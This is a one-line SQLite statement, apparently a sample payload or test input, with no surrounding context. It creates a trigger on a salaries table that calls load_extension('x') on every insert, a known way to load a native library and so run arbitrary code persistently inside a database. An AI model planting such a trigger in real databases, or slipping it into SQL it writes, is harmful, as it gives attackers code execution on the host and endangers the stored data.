CREATE TRIGGER t AFTER INSERT ON salaries BEGIN SELECT load_extension('x'); END;
